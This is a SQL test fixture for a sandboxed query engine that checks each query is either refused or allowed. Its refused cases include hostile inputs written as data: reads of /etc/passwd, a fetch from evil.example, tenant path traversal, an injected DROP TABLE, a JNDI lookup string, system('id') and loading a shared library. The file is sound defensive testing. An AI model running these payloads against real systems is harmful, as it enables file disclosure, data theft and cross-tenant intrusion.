-- Files, places, other worlds, odd names and odd characters.
-- expect: refused no table
SELECT * FROM '/etc/passwd'
-- expect: refused no table
SELECT * FROM 'file:///etc/passwd'
-- expect: refused no table
SELECT * FROM "file:///etc/hosts.csv"
-- expect: refused no table
SELECT * FROM 'https://evil.example/x.parquet'
-- expect: refused no table
SELECT * FROM 's3://bucket/key.parquet'
-- expect: refused no table
SELECT * FROM 'lake://store/lake.json'
-- expect: refused no table
SELECT * FROM "../../tenants"
-- expect: refused no table
SELECT * FROM "tenants/8b7f9a52-1f0e-4d3b-9c55-2f6f0f6a7e10/m365_audit"
-- expect: refused no table
SELECT * FROM "m365_audit/../../8b7f9a52-1f0e-4d3b-9c55-2f6f0f6a7e10/m365_audit"
-- expect: refused tables are in no schema here
SELECT * FROM other.public.m365_audit
-- expect: refused no table
SELECT * FROM pg_catalog.pg_class
-- expect: refused no table
SELECT * FROM sys.tables
-- expect: refused no table
SELECT * FROM information_schema.df_settings
-- expect: refused no table
SELECT * FROM information_schema.views
-- expect: refused no table
SELECT * FROM information_schema.routines
-- expect: refused no table
SELECT * FROM a.b.c
-- expect: refused 
SELECT * FROM a.b.c.d.e
-- expect: refused no table
SELECT * FROM "m365_audit; DROP TABLE m365_audit"
-- expect: refused no table
SELECT * FROM "m365_audit\0"
-- expect: refused no table
SELECT * FROM "%s%s%s%n"
-- expect: refused no table
SELECT * FROM "{0}${jndi:ldap://evil}"
-- expect: refused no table
SELECT * FROM ｍ365_audit
-- expect: refused no table
SELECT * FROM m365_аudit
-- expect: refused 
SELECT * FROM m365_audit​ WHERE 1 = 1
-- expect: refused 
SELECT‮ * FROM m365_audit
-- expect: refused no table `read_parquet`
SELECT * FROM read_parquet('/etc/x')
-- expect: refused no table `read_csv`
SELECT * FROM read_csv('/etc/passwd')
-- expect: refused no table `parquet_metadata`
SELECT * FROM parquet_metadata('/etc/x')
-- expect: refused no function `pg_read_file`
SELECT pg_read_file('/etc/passwd')
-- expect: refused no function `load_extension`
SELECT load_extension('/tmp/evil.so')
-- expect: refused no function `system`
SELECT system('id')
-- expect: refused no function `pg_sleep`
SELECT pg_sleep(1000)
-- expect: refused functions have no schema
SELECT pg_catalog.pg_ls_dir('/')
-- expect: refused functions have no schema
SELECT datafusion.public.version()
-- expect: refused `version` is not available
SELECT version()
-- expect: refused `input_file_name` is not available
SELECT input_file_name() FROM m365_audit
-- expect: refused `input_file_name` is not available
SELECT Input_File_Name() FROM m365_audit
-- expect: refused `file_row_index` is not available
SELECT file_row_index() FROM m365_audit
-- expect: refused `arrow_cast` is not available
SELECT arrow_cast('1', '{repeat 20000 "List("}')
-- expect: refused `arrow_cast` is not available
SELECT 1 WHERE EXISTS (SELECT "arrow_cast"(1, 'Int8'))
-- expect: refused `arrow_metadata` is not available
EXPLAIN SELECT arrow_metadata(id) FROM m365_audit
-- expect: refused `with_metadata` is not available
SELECT with_metadata(id, 'a', 'b') FROM m365_audit
-- expect: refused the second `$$` is missing
SELECT $$
-- expect: refused has no value
SELECT * FROM m365_audit WHERE id = $$nobody gave it$$
-- expect: refused cannot stand in a name
SELECT * FROM "$$table$$"
-- expect: refused have no value
SELECT '$$x$$' || $$y$$
-- expect: refused 
SELECT $tag$text$tag$, $$ $$
-- expect: refused 
SELECT $1
-- expect: refused 
SELECT @@version
-- expect: refused 
SELECT 'unterminated
-- expect: refused 
SELECT /* unterminated
-- expect: refused 
SELECT "unterminated
-- expect: within limits
SELECT '%s%n%x{}{0}\0' || id FROM m365_audit
-- expect: within limits
SELECT U&'\0000' || E'\x00' || X'00'
-- expect: within limits
SELECT 1 -- ; DROP TABLE m365_audit
-- expect: within limits
SELECT /* /* nested */ */ 1
-- expect: within limits
SELECT '👩‍👩‍👧‍👦' || repeat('Å', 1000) || chr(0) || chr(1114111)
-- expect: within limits
SELECT upper('ŉǰΐ'), lower('İ'), initcap('ǆ'), reverse('é'), substr('Å', 2, 1)
-- expect: within limits
SELECT * FROM information_schema.tables
-- expect: within limits
SELECT * FROM information_schema.columns WHERE table_name LIKE '%'
-- expect: within limits
SHOW TABLES
-- expect: within limits
SHOW COLUMNS FROM m365_audit
-- expect: within limits
EXPLAIN ANALYZE VERBOSE SELECT * FROM m365_audit
-- expect: within limits
EXPLAIN VERBOSE SELECT * FROM m365_audit WHERE raw LIKE '%x%'
-- expect: within limits
EXPLAIN FORMAT PGJSON SELECT * FROM m365_audit
-- expect: within limits
EXPLAIN FORMAT TREE SELECT * FROM m365_audit
